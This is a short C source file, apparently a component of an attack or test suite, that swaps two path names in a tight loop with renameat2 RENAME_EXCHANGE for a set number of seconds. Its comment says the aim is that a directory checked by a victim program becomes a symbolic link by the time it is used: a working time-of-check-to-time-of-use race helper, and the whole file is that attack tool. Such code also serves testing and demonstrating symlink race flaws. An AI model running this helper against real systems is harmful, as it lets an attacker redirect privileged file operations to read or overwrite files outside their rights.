/* Swaps two names as fast as it can, for at most SECONDS: what was a directory when it was looked at
 * is a link when it is used. */
#include "attack.h"

#include <fcntl.h>
#include <time.h>

int main(int argc, char **argv)
{
	time_t end;

	if (argc != 4) {
		fputs("usage: race A B SECONDS\n", stderr);
		return 2;
	}
	end = time(NULL) + atoi(argv[3]);
	while (time(NULL) < end)
		for (int i = 0; i < 1000; i++)
			if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0 && errno != ENOENT) {
				perror("renameat2");
				return 1;
			}
	return 0;
}
